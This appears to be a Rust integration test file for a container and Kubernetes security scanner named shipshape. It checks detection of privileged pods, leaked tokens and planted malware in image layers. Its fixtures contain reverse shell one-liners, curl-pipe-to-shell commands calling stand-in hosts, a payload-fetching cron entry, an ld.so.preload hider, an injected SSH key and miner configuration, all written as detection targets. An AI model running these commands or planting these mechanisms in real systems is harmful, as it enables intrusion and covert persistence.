    // Three thousand containers in one pod.
    let mut wide = String::from("apiVersion: v1\nkind: Pod\nmetadata: {name: wide}\nspec:\n  containers:\n");
    for i in 0..3_000 {
        wide.push_str(&format!("    - {{name: c{i}, image: x:1, securityContext: {{privileged: true}}}}\n"));
    }
    write(dir.path(), "wide.yaml", &wide);
    write(
        dir.path(),
        "good.yaml",
        "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  hostPID: true\n  containers: [{name: a, image: x:1}]\n",
    );
    let started = std::time::Instant::now();
    let out = shipshape(dir.path(), &["scan", ".", "--format", "json", "--pss", "restricted"]);
    assert!(started.elapsed().as_secs() < 30, "took {:?}", started.elapsed());
    let report = json(&out);
    let found = findings(&report);
    for path in ["bomb.yaml", "nested.yaml"] {
        assert!(found.iter().any(|(c, p, _)| c == "GEN001" && p == path), "no error for {path}");
    }
    assert_eq!(found.iter().filter(|(c, p, _)| c == "PRV300" && p == "wide.yaml").count(), 3_000);
    assert!(
        found.iter().any(|(c, p, _)| c == "ISO301" && p == "good.yaml"),
        "{:?}",
        &found[..5.min(found.len())]
    );
}

#[test]
fn helm_output_on_stdin_is_read_as_manifests() {
    let dir = tempfile::tempdir().expect("tempdir");
    let rendered = "---\n# Source: web/templates/deployment.yaml\napiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: release-web\nspec:\n  template:\n    spec:\n      containers:\n        - name: web\n          image: nginx:1.27\n          securityContext:\n            privileged: true\n---\n# Source: web/templates/service.yaml\napiVersion: v1\nkind: Service\nmetadata:\n  name: release-web\n";
    let out = shipshape_stdin(dir.path(), &["scan", "-", "--format", "json"], rendered.as_bytes());
    let report = json(&out);
    assert_eq!(report["targets"][0]["kind"], "kubernetes");
    assert!(findings(&report).iter().any(|(c, p, l)| c == "PRV100" && p == "-" && *l == 14), "{report}");
}

/// Synthetic credentials (random bodies in real formats), built at run time so this file holds
/// none.
fn planted() -> Vec<(&'static str, String)> {
    vec![
        ("github", format!("ghp_{}", "Q7mZ2xR9pL4vT8nW3kB6yC1dF5gH0jS2aE7u")),
        ("gitlab", format!("glpat-{}", "x9Kq2LmZ7vR4pT8nW3yB")),
        ("stripe", format!("sk_live_{}", "51Hq8ZmLp2Rx7Tv9Wn3Yk4Bd")),
        ("slack", format!("xoxb-{}-{}-{}", "28374650192", "39485761028", "Zq8mLp2Rx7Tv9Wn3Yk4Bd6Fh")),
    ]
}

#[test]
fn planted_secrets_are_found_everywhere_and_never_printed_in_full() {
    let dir = tempfile::tempdir().expect("tempdir");
    let secrets = planted();
    let secret = |kind: &str| secrets.iter().find(|(k, _)| *k == kind).map(|(_, s)| s.clone()).expect("kind");
    write(
        dir.path(),
        "Dockerfile",
        &format!(
            "FROM alpine:3.20\nRUN curl -H 'Authorization: token {}' https://api.example.com\nUSER 10001\n",
            secret("github")
        ),
    );
    write(dir.path(), "deploy/run.sh", &format!("#!/bin/sh\nexport GITLAB_TOKEN={}\n", secret("gitlab")));
    write(
        dir.path(),
        "config/settings.json",
        &format!("{{\"stripe\": {{\"key\": \"{}\"}}}}\n", secret("stripe")),
    );
    write(
        dir.path(),
        "k8s/cm.yaml",
        &format!(
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: bot}}\ndata:\n  notify.conf: |\n    slack_token = {}\n",
            secret("slack")
        ),
    );
    // Decoys: a documented example key, a placeholder, a digest, a UUID.
    write(
        dir.path(),
        "docs/example.md",
        "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\npassword = ${DB_PASSWORD}\nFROM nginx@sha256:4ec37d2a07a0067f176fdcc9d4bb633a5724d2cc4f892c7a2046d054bb6939e5\nid: 123e4567-e89b-12d3-a456-426614174000\n",
    );
    let report = json(&shipshape(dir.path(), &["scan", ".", "-f", "json", "--select", "SEC"]));
    let found = findings(&report);
    for (path, line) in
        [("Dockerfile", 2), ("deploy/run.sh", 2), ("config/settings.json", 1), ("k8s/cm.yaml", 5)]
    {
        assert!(
            // The Dockerfile's token is a `RUN` argument: `SEC002` reports it (and supersedes `SEC110`).
            found.iter().any(|(c, p, l)| c.starts_with("SEC") && p == path && *l == line),
            "nothing at {path}:{line}: {found:?}"
        );
    }
    assert!(!found.iter().any(|(_, p, _)| p == "docs/example.md"), "decoys reported: {found:?}");
    for format in ["human", "json", "sarif", "junit", "github", "checkstyle"] {
        let out = shipshape(dir.path(), &["scan", ".", "-f", format, "--no-color"]);
        let text = String::from_utf8_lossy(&out.stdout);
        for (kind, value) in &secrets {
            assert!(!text.contains(value.as_str()), "{format} output contains the {kind} secret");
        }
    }
}

#[test]
fn image_secrets_in_deleted_layer_files_and_config_rules() {
    let dir = tempfile::tempdir().expect("tempdir");
    let token = format!("ghp_{}", "Q7mZ2xR9pL4vT8nW3kB6yC1dF5gH0jS2aE7u");
    let dotenv = format!("APP_MODE=prod\nGITHUB_TOKEN={token}\n");
    let added = layer_tar(&[("app/.env", dotenv.as_bytes()), ("app/main.sh", b"#!/bin/sh\necho hi\n")]);
    let removed = layer_tar(&[("app/.wh..env", b"")]);
    let config = serde_json::json!({
        "architecture": "amd64", "os": "linux",
        "config": {"User": "", "Env": ["PATH=/usr/bin"], "Cmd": ["/app/main.sh"]},
        "history": [{"created_by": "COPY . /app # buildkit"}, {"created_by": "RUN /bin/sh -c rm /app/.env # buildkit"}]
    });
    let archive = dir.path().join("planted.tar");
    std::fs::write(&archive, docker_save_archive(&[added, removed], config, "planted:1")).expect("write");
    let out = shipshape(dir.path(), &["image", "planted.tar", "-f", "json"]);
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
    let report = json(&out);
    let found = findings(&report);
    assert!(
        found.iter().any(|(c, p, l)| c == "SEC110"
            && p == "planted.tar!/layer-0/app/.env (deleted by layer 1)"
            && *l == 2),
        "{found:?}"
    );
    assert!(found.iter().any(|(c, p, _)| c == "PRV001" && p.ends_with("/config.json")), "{found:?}");
    assert!(found.iter().any(|(c, _, _)| c == "MON001"), "{found:?}");
    for format in ["human", "json", "sarif", "junit", "github", "checkstyle"] {
        let out = shipshape(dir.path(), &["image", "planted.tar", "-f", format, "--no-color"]);
        assert!(!String::from_utf8_lossy(&out.stdout).contains(&token), "{format} prints the token");
    }
    assert!(String::from_utf8_lossy(&out.stderr).contains("read planted.tar (2 layers"));
    let missing = shipshape(dir.path(), &["image", "nope.tar"]);
    assert_eq!(missing.status.code(), Some(2));
}

#[test]
fn scan_reads_image_archives_and_oci_layouts_it_finds() {
    let dir = tempfile::tempdir().expect("tempdir");
    let token = format!("ghp_{}", "Q7mZ2xR9pL4vT8nW3kB6yC1dF5gH0jS2aE7u");
    let secret_layer = layer_tar(&[("app/.env", format!("GITHUB_TOKEN={token}\n").as_bytes())]);
    let config = serde_json::json!({"architecture": "amd64", "os": "linux", "config": {"User": ""}});
    std::fs::create_dir_all(dir.path().join("dist")).expect("mkdir");
    std::fs::write(
        dir.path().join("dist/app.tar"),
        docker_save_archive(std::slice::from_ref(&secret_layer), config.clone(), "app:1"),
    )
    .expect("write");
    oci_layout(&dir.path().join("dist/layout"), &[(vec![secret_layer], config)], "1");
    // A tar that is not an image, and a broken image archive.
    std::fs::write(dir.path().join("dist/sources.tar"), layer_tar(&[("README", b"hello\n")])).expect("write");
    let mut broken =
        docker_save_archive(&[layer_tar(&[("a", b"a")])], serde_json::json!({"os": "linux"}), "b:1");
    broken.truncate(2048);
    std::fs::write(dir.path().join("dist/broken.tar"), broken).expect("write");

    let out = shipshape(dir.path(), &["scan", ".", "-f", "json"]);
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
    let report = json(&out);
    let found = findings(&report);
    for image in ["dist/app.tar", "dist/layout"] {
        assert!(
            found
                .iter()
                .any(|(c, p, l)| c == "SEC110" && p == &format!("{image}!/layer-0/app/.env") && *l == 1),
            "{image}: {found:?}"
        );
    }
    assert_eq!(found.iter().filter(|(c, _, _)| c == "PRV001").count(), 2, "both configs: {found:?}");
    assert!(!found.iter().any(|(_, p, _)| p.contains("blobs/") || p.contains("sources.tar")), "{found:?}");
    let targets = report["targets"].as_array().expect("targets");
    let broken =
        targets.iter().find(|t| t["path"] == "dist/broken.tar").expect("the broken archive is a target");
    assert_eq!(broken["status"], "unreadable", "{broken}");
    assert!(!stdout(&out).contains(&token));

    let explicit = json(&shipshape(dir.path(), &["scan", "dist/app.tar", "-f", "json"]));
    assert!(
        findings(&explicit).iter().any(|(c, p, _)| c == "SEC110" && p == "dist/app.tar!/layer-0/app/.env")
    );
}

#[test]
fn secrets_configuration_adds_detectors_and_allowlists() {
    let dir = tempfile::tempdir().expect("tempdir");
    let acme = format!("acme_{}", "q7mz2xr9pl4vt8nw3kb6yc1df5gh0js2");
    write(dir.path(), "app/settings.ini", &format!("[vendor]\nkey = {acme}\n"));
    write(dir.path(), "tests/fixtures/settings.ini", &format!("key = {acme}\n"));
    // Without configuration the custom format is unknown.
    let before = json(&shipshape(dir.path(), &["scan", ".", "-f", "json", "--select", "SEC110"]));
    assert!(findings(&before).is_empty(), "{before}");
    write(
        dir.path(),
        "shipshape.toml",
        "[secrets]\n[[secrets.rules]]\nid = \"acme-api-key\"\ntitle = \"ACME API key\"\nregex = 'acme_[a-z0-9]{32}'\nkeywords = [\"acme_\"]\nseverity = \"critical\"\n[[secrets.allow]]\npaths = [\"**/tests/fixtures/**\"]\nreason = \"fixture keys are fake\"\n",
    );
    let after = json(&shipshape(dir.path(), &["scan", ".", "-f", "json", "--select", "SEC110"]));
    let found: Vec<(String, String, u64)> = findings(&after);
    assert_eq!(found, [("SEC110".to_string(), "app/settings.ini".to_string(), 2)], "{after}");
    assert_eq!(after["findings"][0]["severity"], "critical");
    assert!(!after.to_string().contains(&acme));
}

#[test]
fn image_references_are_judged_on_every_platform() {
    let dir = tempfile::tempdir().expect("tempdir");
    write(
        dir.path(),
        "Dockerfile",
        "ARG BASE=python:3.7-slim\nFROM ${BASE} AS build\nFROM ngnix:1.27\nCOPY --from=bitnmai/redis:7 /a /a\nCOPY --from=build /b /b\n",
    );
    write(
        dir.path(),
        "compose.yaml",
        "services:\n  web:\n    image: ghrc.io/acme/web:1.0\n  cache:\n    image: http://registry.lan:5000/redis:7\n  db:\n    image: postgres:16\n",
    );
    write(
        dir.path(),
        "k8s/pod.yaml",
        "apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n  containers:\n    - name: a\n      image: node:14-alpine\n    - name: b\n      image: MyOrg/App:1\n",
    );
    let select = "IMG001,IMG002,IMG013,IMG015,SUP009,SUP011";
    let report = json(&shipshape(dir.path(), &["scan", ".", "-f", "json", "--select", select]));
    let mut found = findings(&report);
    found.sort();
    let expected = [
        ("IMG013", "k8s/pod.yaml", 10),
        ("IMG015", "Dockerfile", 2),
        ("IMG015", "k8s/pod.yaml", 8),
        ("SUP009", "Dockerfile", 3),
        ("SUP009", "Dockerfile", 4),
        ("SUP009", "compose.yaml", 3),
        ("SUP011", "compose.yaml", 5),
    ];
    let expected: Vec<(String, String, u64)> =
        expected.iter().map(|(c, p, l)| (c.to_string(), p.to_string(), *l)).collect();
    assert_eq!(found, expected, "{report}");
    let typo =
        report["findings"].as_array().and_then(|f| f.iter().find(|f| f["code"] == "SUP009")).expect("SUP009");
    assert!(typo["message"].as_str().is_some_and(|m| m.contains("did you mean `nginx`?")), "{typo}");

    // End of life is judged against the day given, not the clock.
    let before =
        json(&shipshape_on("2023-01-01", dir.path(), &["scan", ".", "-f", "json", "--select", "IMG015"]));
    assert!(findings(&before).is_empty(), "python 3.7 and node 14 were supported then: {before}");
    let bad_day = shipshape_on("2023-02-30", dir.path(), &["scan", "."]);
    assert_eq!(bad_day.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&bad_day.stderr).contains("SHIPSHAPE_TODAY"));

    // Digests: required only under the policy, from the flag or the config.
    let free = json(&shipshape(dir.path(), &["scan", ".", "-f", "json", "--select", "IMG014"]));
    assert!(findings(&free).is_empty(), "{free}");
    let required =
        shipshape(dir.path(), &["scan", ".", "-f", "json", "--select", "IMG014", "--require-digest"]);
    assert_eq!(required.status.code(), Some(1));
    assert!(
        json(&required)["findings"].as_array().is_some_and(|f| f.iter().all(|f| f["severity"] == "high"))
    );
    write(dir.path(), "shipshape.toml", "[registries]\nrequire-digest = true\n");
    let configured = json(&shipshape(dir.path(), &["scan", ".", "-f", "json", "--select", "IMG014"]));
    assert!(
        configured["findings"]
            .as_array()
            .is_some_and(|f| !f.is_empty() && f.iter().all(|f| f["severity"] == "high"))
    );
}

#[test]
fn trusted_registries_from_shipshape_toml_and_hadolint() {
    let dir = tempfile::tempdir().expect("tempdir");
    write(
        dir.path(),
        "Dockerfile",
        "FROM registry.example.com/base:1\nFROM ghcr.io/acme/tool:1 AS tool\nFROM eu.corp.example/x:1 AS x\nFROM quay.io/someone/y:1 AS y\nFROM node:20\n",
    );
    let none = json(&shipshape(dir.path(), &["scan", ".", "-f", "json", "--select", "SUP010"]));
    assert!(findings(&none).is_empty(), "no allowlist, no finding: {none}");
    write(
        dir.path(),
        "shipshape.toml",
        "[registries]\ntrusted = [\"registry.example.com\", \"ghcr.io/acme/*\"]\n",
    );
    write(dir.path(), ".hadolint.yaml", "ignored: [DL3008]\ntrustedRegistries:\n  - \"*.corp.example\"\n");
    let report = json(&shipshape(dir.path(), &["scan", ".", "-f", "json", "--select", "SUP010"]));
    let lines: Vec<u64> = findings(&report).into_iter().map(|(_, _, l)| l).collect();
    assert_eq!(lines, [4, 5], "{report}");
    // hadolint's own code selects the rule too.
    let by_alias = json(&shipshape(dir.path(), &["scan", ".", "-f", "json", "--select", "DL3026"]));
    assert_eq!(findings(&by_alias).len(), 2);
}

#[test]
fn image_os_release_past_end_of_life() {
    let dir = tempfile::tempdir().expect("tempdir");
    let os_release = b"PRETTY_NAME=\"Debian GNU/Linux 9 (stretch)\"\nNAME=\"Debian GNU/Linux\"\nVERSION_ID=\"9\"\nVERSION_CODENAME=stretch\nID=debian\n";
    let base = layer_tar(&[("usr/lib/os-release", os_release.as_slice()), ("etc/hostname", b"x\n")]);
    let config = serde_json::json!({
        "architecture": "amd64", "os": "linux",
        "config": {"User": "app", "Healthcheck": {"Test": ["CMD", "true"]}},
        "history": [{"created_by": "debian base"}]
    });
    std::fs::write(dir.path().join("old.tar"), docker_save_archive(&[base], config, "old:1")).expect("write");
    let report = json(&shipshape(dir.path(), &["image", "old.tar", "-f", "json", "--select", "IMG015"]));
    let found = findings(&report);
    assert_eq!(
        found,
        [("IMG015".to_string(), "old.tar!/layer-0/usr/lib/os-release".to_string(), 3)],
        "{report}"
    );
    assert_eq!(
        report["findings"][0]["message"],
        "the image runs Debian 9 (stretch), which reached end of life on 2022-06-30"
    );
    let supported = json(&shipshape_on(
        "2022-06-30",
        dir.path(),
        &["image", "old.tar", "-f", "json", "--select", "IMG015"],
    ));
    assert!(findings(&supported).is_empty());
}

#[test]
fn a_hadolint_configuration_is_honoured() {
    let dir = tempfile::tempdir().expect("tempdir");
    let dockerfile = "FROM debian:12.5\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\n    && rm -rf /var/lib/apt/lists/*\nRUN echo one\nRUN echo two\nUSER app\nHEALTHCHECK CMD true\n";
    std::fs::write(dir.path().join("Dockerfile"), dockerfile).expect("write");
    let before = findings(&json(&shipshape(dir.path(), &["scan", ".", "-f", "json"])));
    assert!(before.iter().any(|(c, _, _)| c == "SUP004"), "{before:?}");
    assert!(before.iter().any(|(c, _, _)| c == "IMG048"), "{before:?}");

    // Alone in the directory, .hadolint.yaml is the configuration: `ignored`, `override` and
    // `failure-threshold` as hadolint reads them, and an unknown code is reported in the file.
    std::fs::write(
        dir.path().join(".hadolint.yaml"),
        "ignored:\n  - DL3008\noverride:\n  error:\n    - DL3059\nfailure-threshold: error\nlabel-schema: {}\n",
    )
    .expect("write");
    let out = shipshape(dir.path(), &["scan", ".", "-f", "json"]);
    let report = json(&out);
    let found = findings(&report);
    assert!(!found.iter().any(|(c, _, _)| c == "SUP004"), "DL3008 ignored: {found:?}");
    let consecutive =
        report["findings"].as_array().unwrap().iter().find(|f| f["code"] == "IMG048").expect("IMG048");
    assert_eq!(consecutive["severity"], "high", "DL3059 overridden to error");
    assert_eq!(out.status.code(), Some(1), "an error-level finding fails with failure-threshold: error");

    std::fs::write(
        dir.path().join(".hadolint.yaml"),
        "ignored: [DL3008, DL9999, DL3059]\nfailure-threshold: error\n",
    )
    .expect("write");
    let out = shipshape(dir.path(), &["scan", ".", "-f", "json"]);
    let found = findings(&json(&out));
    assert_eq!(found, [("GEN007".to_string(), ".hadolint.yaml".to_string(), 1)], "{found:?}");
}

/// The EICAR test string, assembled at run time so that no file of the repository holds it.
fn eicar() -> String {
    ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS", "-TEST-FILE!$H+H*"].concat()
}

/// A harmless stand-in for a miner binary: an ELF header and the strings miners carry.
fn miner_stand_in() -> Vec<u8> {
    let mut binary = b"\x7fELF\x02\x01\x01\x00".to_vec();
    for s in ["XMRig/%s", "randomx", "cn/r", "--donate-level", "stratum+tcp://"] {
        binary.extend_from_slice(&[0; 32]);
        binary.extend_from_slice(s.as_bytes());
    }
    binary
}

/// (code, path, line, severity, message) of every finding.
fn detailed(report: &serde_json::Value) -> Vec<(String, String, u64, String, String)> {
    report["findings"]
        .as_array()
        .expect("findings array")
        .iter()
        .map(|f| {
            (
                f["code"].as_str().unwrap_or_default().to_string(),
                f["location"]["path"].as_str().unwrap_or_default().to_string(),
                f["location"]["region"]["start_line"].as_u64().unwrap_or_default(),
                f["severity"].as_str().unwrap_or_default().to_string(),
                f["message"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect()
}

#[test]
fn image_malware_in_every_layer_with_the_layer_that_deleted_it() {
    let dir = tempfile::tempdir().expect("tempdir");
    let eicar = eicar();
    let eicar_file = format!("{eicar}\r\n");
    // Layer 0: what a base image holds, none of it malware.
    let base = layer_tar(&[
        ("etc/cron.daily/dpkg", b"#!/bin/sh\nif [ -x /usr/libexec/dpkg/dpkg-db-backup ]; then\n  /usr/libexec/dpkg/dpkg-db-backup\nfi\n"),
        ("usr/local/bin/wait-for-it.sh", b"#!/bin/sh\n(echo -n > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1\n"),
        ("usr/local/bin/healthcheck", b"#!/bin/sh\nnc -z -w 1 localhost 8080\n"),
        ("usr/share/doc/shells/README.md", b"An example: `bash -i >& /dev/tcp/10.0.0.1/4242 0>&1`.\n"),
    ]);
    // Layer 1: the planted files.
    let planted = layer_tar(&[
        ("opt/start.sh", b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n"),
        ("tmp/eicar.com", eicar_file.as_bytes()),
        ("opt/.cache/kworker", &miner_stand_in()),
        ("etc/xmrig/config.json", b"{\n  \"donate-level\": 1,\n  \"pools\": [{\"url\": \"stratum+tcp://pool.minexmr.net:4444\"}]\n}\n"),
        ("etc/cron.d/sysupdate", b"* * * * * root /tmp/.ICE-unix/.x/kdevtmpfsi >/dev/null 2>&1\n"),
        ("etc/ld.so.preload", b"/usr/local/lib/libprocesshider.so\n"),
        ("root/.ssh/authorized_keys", b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl x@y\n"),
    ]);
    // Layer 2: deletes two of them; they still ship in layer 1.
    let cleanup = layer_tar(&[("opt/.wh.start.sh", b""), ("tmp/.wh.eicar.com", b"")]);
    let config = serde_json::json!({
        "architecture": "amd64", "os": "linux",
        "config": {"User": "app", "Entrypoint": ["/bin/sh", "-c", "curl -s http://198.18.0.9/s.sh | sh"],
                   "Healthcheck": {"Test": ["CMD", "/usr/local/bin/healthcheck"]}},
        "history": [
            {"created_by": "ADD rootfs.tar / # buildkit"},
            {"created_by": "RUN /bin/sh -c sh -c 'bash -i >& /dev/tcp/10.0.0.2/9001 0>&1 &' # buildkit"},
            {"created_by": "RUN /bin/sh -c rm /opt/start.sh /tmp/eicar.com # buildkit"}
        ]
    });
    let archive = dir.path().join("planted.tar");
    std::fs::write(&archive, docker_save_archive(&[base, planted, cleanup], config, "planted:1"))
        .expect("write");
    let out = shipshape(dir.path(), &["image", "planted.tar", "-f", "json"]);
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
    let found = detailed(&json(&out));
    let has = |code: &str, path: &str, line: u64, severity: &str| {
        found
            .iter()
            .any(|f| f.0 == code && f.1 == format!("planted.tar!/{path}") && f.2 == line && f.3 == severity)
    };
    assert!(has("SUP111", "layer-1/opt/start.sh (deleted by layer 2)", 2, "critical"), "{found:#?}");
    assert!(has("SUP114", "layer-1/tmp/eicar.com (deleted by layer 2)", 1, "medium"), "{found:#?}");
    assert!(has("SUP110", "layer-1/opt/.cache/kworker", 1, "high"), "{found:#?}");
    assert!(has("SUP110", "layer-1/etc/xmrig/config.json", 2, "high"), "{found:#?}");
    assert!(has("SUP110", "layer-1/etc/xmrig/config.json", 3, "high"), "{found:#?}");
    assert!(has("SUP113", "layer-1/etc/cron.d/sysupdate", 1, "high"), "{found:#?}");
    assert!(has("SUP113", "layer-1/etc/ld.so.preload", 1, "critical"), "{found:#?}");
    assert!(has("SUP113", "layer-1/root/.ssh/authorized_keys", 1, "high"), "{found:#?}");
    let config_finding = |code: &str, needle: &str| {
        found.iter().any(|f| f.0 == code && f.1.ends_with("/config.json") && f.4.contains(needle))
    };
    assert!(config_finding("SUP112", "curl -s http://198.18.0.9/s.sh | sh"), "the entrypoint: {found:#?}");
    assert!(config_finding("SUP111", "/dev/tcp/10.0.0.2/9001"), "the history step: {found:#?}");
    let malware: Vec<_> = found.iter().filter(|f| f.0.starts_with("SUP11")).collect();
    assert!(malware.iter().all(|f| !f.1.contains("/layer-0/")), "base layer look-alikes: {malware:#?}");
    assert_eq!(malware.len(), 10, "{malware:#?}");
    for format in ["human", "json", "sarif"] {
        let out = shipshape(dir.path(), &["image", "planted.tar", "-f", format, "--no-color"]);
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.contains("SUP114"), "{format}");
        assert!(!text.contains(&eicar[..40]) || format == "human", "{format} prints the EICAR string");
    }
}

#[test]
fn malware_in_scripts_crontabs_and_dockerfiles_of_a_tree() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path();
    write(
        root,
        "app/Dockerfile",
        "FROM debian:12\nRUN curl -s http://198.18.0.9/install.sh | sh\nCOPY crontab /etc/cron.d/app\nCMD curl -s http://198.18.0.9/start.sh | sh\n",
    );
    write(root, "app/entrypoint.sh", "#!/bin/sh\nset -e\nnc -e /bin/sh 10.0.0.1 4242\nexec \"$@\"\n");
    write(
        root,
        "app/crontab",
        "*/5 * * * * root curl -fsSL https://x.invalid.org/u | sh\n0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n",
    );
    write(root, "app/healthcheck.sh", "#!/bin/sh\nnc -z db 5432 && curl -fsSL https://get.docker.com | sh\n");
    write(root, "docs/shells.md", "A reverse shell: `bash -i >& /dev/tcp/10.0.0.1/4242 0>&1`.\n");
    write(
        root,
        "k8s/pod.yaml",
        "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n  - name: c\n    image: busybox:1.36\n    command: [\"sh\", \"-c\", \"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f\"]\n",
    );
    std::fs::write(root.join("app/kworker"), miner_stand_in()).expect("write");
    std::fs::write(root.join("app/eicar.com"), eicar()).expect("write");
    let out = shipshape(root, &["scan", ".", "-f", "json"]);
    let found: Vec<(String, String, u64)> =
        findings(&json(&out)).into_iter().filter(|f| f.0.starts_with("SUP11")).collect();
    let expected = [
        ("SUP111", "app/entrypoint.sh", 3),
        ("SUP112", "app/Dockerfile", 4),
        ("SUP113", "app/crontab", 1),
        ("SUP110", "app/kworker", 1),
        ("SUP114", "app/eicar.com", 1),
        ("SUP111", "k8s/pod.yaml", 8),
    ];
    for (code, path, line) in expected {
        assert!(
            found.iter().any(|f| f.0 == code && f.1 == path && f.2 == line),
            "{code} {path}:{line}: {found:#?}"
        );
    }
    assert_eq!(found.len(), expected.len(), "RUN is SUP001's, docs and probes are not malware: {found:#?}");
    assert!(findings(&json(&out)).iter().any(|f| f.0 == "SUP001" && f.1 == "app/Dockerfile" && f.2 == 2));
}

#[cfg(not(feature = "yara"))]
#[test]
fn yara_rules_need_the_yara_feature() {
    let dir = tempfile::tempdir().expect("tempdir");
    let out = shipshape(dir.path(), &["scan", ".", "--yara-rules", "rules"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--features yara"));
}

#[test]
fn a_reader_that_stops_early_is_not_an_error() {
    let dir = tempfile::tempdir().expect("tempdir");
    for args in [&["rules", "-f", "json"][..], &["rules", "-f", "markdown"][..]] {
        let mut child = Command::new(env!("CARGO_BIN_EXE_shipshape"))
            .args(args)
            .current_dir(dir.path())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn shipshape");
        // Close the pipe before shipshape has written its output (like `| head -c 10`).
        drop(child.stdout.take());
        let out = child.wait_with_output().expect("wait");
        assert_eq!(out.status.code(), Some(0), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
        assert!(out.stderr.is_empty(), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
    }
}
